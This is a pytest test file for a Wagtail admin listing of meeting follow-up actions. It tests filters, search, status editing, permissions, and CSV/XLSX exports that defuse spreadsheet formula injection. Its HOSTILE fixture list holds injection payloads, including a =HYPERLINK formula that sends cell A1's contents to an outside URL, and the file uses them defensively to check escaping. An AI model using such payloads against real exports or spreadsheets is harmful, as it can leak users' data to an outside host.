"""«Oppfølging» as Wagtail's listing: its filters, search, formula-safe exports, the edit
form for the status, and nothing that adds or deletes an action."""

import csv
import datetime
import io

import openpyxl
import pytest
from django.contrib.auth.models import Permission
from django.utils import timezone
from wagtail.models import ModelLogEntry

from kb.models import Action

pytestmark = pytest.mark.django_db

URL = "/admin/oppfolging/"
HOSTILE = [
    '=HYPERLINK("https://example.org/?"&A1,"Klikk")',
    "+47 999 99 999",
    "-2+3",
    "@SUM(A1:A9)",
    "\t=1+1",
    "\r=1+1",
]


def listed(response):
    return sorted(a.what for a in response.context["actions"])


def body(response) -> bytes:
    return b"".join(response.streaming_content)


@pytest.fixture
def hostile(minutes):
    """Actions whose text a spreadsheet would run as a formula."""
    template = Action.objects.get(what="Avklare domenet")
    for n, text in enumerate(HOSTILE):
        Action.objects.create(
            minutes=minutes,
            block_id=f"hostile-{n}",
            what=text,
            responsible=text,
            item_title=text,
            due_date=template.due_date,
        )
    return HOSTILE


def test_csv_export_keeps_formulas_as_text(client, hostile, rag_user):
    client.force_login(rag_user)
    response = client.get(URL, {"export": "csv"})
    assert response.status_code == 200
    assert response["Content-Disposition"].startswith('attachment; filename="oppfolging-')
    rows = list(csv.reader(io.StringIO(body(response).decode("utf-8-sig")), delimiter=";"))
    assert rows[0] == [
        "Møte", "Møtedato", "Sak", "Hva", "Ansvarlig", "Frist", "Status", "Forfalt", "Utført",
        "Utført av",
    ]  # fmt: skip
    what = [row[3] for row in rows[1:]]
    responsible = [row[4] for row in rows[1:]]
    for text in HOSTILE:
        assert "'" + text in what  # the text, kept as text by a leading «'»
        assert "'" + text in responsible
    assert not [
        cell for row in rows for cell in row if cell[:1] in ("=", "+", "-", "@", "\t", "\r")
    ]


def test_xlsx_export_stores_formulas_as_text(client, hostile, rag_user):
    client.force_login(rag_user)
    response = client.get(URL, {"export": "xlsx"})
    assert response.status_code == 200
    sheet = openpyxl.load_workbook(io.BytesIO(body(response))).active
    assert [c.value for c in sheet[1]][:4] == ["Møte", "Møtedato", "Sak", "Hva"]
    written = {}
    for row in sheet.iter_rows(min_row=2):
        what = row[3]
        assert what.data_type == "s"  # text, never "f" (a formula)
        written[what.value] = row
    for text in HOSTILE:
        assert text in written  # the text itself, readable, not run
    overdue = [row for row in sheet.iter_rows(min_row=2) if row[7].value == "ja"]
    assert [row[3].value for row in overdue] == ["Stavanger følger opp og oppdaterer RAG"]
    assert overdue[0][0].fill.start_color.rgb.endswith("FFF2CC")
    assert sheet.cell(2, 6).number_format == "DD.MM.YYYY"


def test_filters_by_due_date_overdue_and_search(client, minutes, rag_user):
    client.force_login(rag_user)
    today = timezone.localdate()
    assert listed(client.get(URL, {"overdue": "true"})) == [
        "Stavanger følger opp og oppdaterer RAG"
    ]
    assert listed(client.get(URL, {"overdue": "false"})) == [
        "Avklare domenet",
        "Sende avtalen til Akan",
    ]
    within_a_week = {
        "due_date_from": today.isoformat(),
        "due_date_to": (today + datetime.timedelta(days=7)).isoformat(),
    }
    assert listed(client.get(URL, within_a_week)) == ["Sende avtalen til Akan"]
    assert listed(client.get(URL, {"q": "domenet"})) == ["Avklare domenet"]
    assert listed(client.get(URL, {"q": "referatet", "status": "all"})) == ["Godkjenne referatet"]
    # Filters are kept by the export.
    response = client.get(URL, {"export": "csv", "overdue": "true"})
    rows = list(csv.reader(io.StringIO(body(response).decode("utf-8-sig")), delimiter=";"))
    assert [row[3] for row in rows[1:]] == ["Stavanger følger opp og oppdaterer RAG"]


def test_a_filter_that_matches_nothing_says_so(client, minutes, rag_user):
    client.force_login(rag_user)
    for params in ({"meeting": "999999"}, {"status": "??"}, {"due_date_from": "31.02.x"}):
        response = client.get(URL, params)
        assert response.status_code == 200
        assert listed(response) == []
        assert "Ingen oppfølgingspunkter med disse filtrene." in response.content.decode()


def test_the_rows_link_back_to_the_minutes(client, minutes, rag_user):
    client.force_login(rag_user)
    content = client.get(URL).content.decode()
    assert f'href="/admin/pages/{minutes.pk}/edit/"' in content
    assert "sak 3" in content


def test_the_edit_form_changes_the_status_and_records_who(client, minutes, rag_user):
    action = Action.objects.get(what="Avklare domenet")
    client.force_login(rag_user)
    response = client.get(f"{URL}edit/{action.pk}/")
    assert response.status_code == 200
    response = client.post(f"{URL}edit/{action.pk}/", {"status": "done"})
    assert response.status_code == 302
    action.refresh_from_db()
    assert (action.status, action.done_by) == ("done", rag_user)
    assert ModelLogEntry.objects.filter(action="kb.action.done", object_id=str(action.pk)).exists()
    history = client.get(f"{URL}history/{action.pk}/")
    assert history.status_code == 200
    assert "Markert utført" in history.content.decode()


def test_nobody_adds_or_deletes_an_action_here(client, minutes, superuser):
    """The minutes make and remove actions; republishing would undo it here."""
    client.force_login(superuser)
    action = Action.objects.get(what="Avklare domenet")
    content = client.get(URL).content.decode()
    assert f"{URL}new/" not in content
    assert f"{URL}delete/" not in content
    assert client.get(f"{URL}new/").status_code in (302, 403)
    client.post(f"{URL}new/", {"status": "open"})
    client.post(f"{URL}delete/{action.pk}/")
    assert Action.objects.filter(minutes=minutes).count() == 4


def test_seeing_without_changing(client, minutes, member):
    """kb.view_action alone: the list and the exports, no status form, no status change."""
    member.user_permissions.add(
        Permission.objects.get(codename="access_admin"),
        Permission.objects.get(content_type__app_label="kb", codename="view_action"),
    )
    client.force_login(member)
    response = client.get(URL)
    assert response.status_code == 200
    assert len(listed(response)) == 3
    assert "/status/" not in response.content.decode()
    action = Action.objects.get(what="Avklare domenet")
    assert client.post(f"{URL}{action.pk}/status/", {"status": "done"}).status_code in (302, 403)
    assert client.post(f"{URL}edit/{action.pk}/", {"status": "done"}).status_code in (302, 403)
    action.refresh_from_db()
    assert action.status == "open"
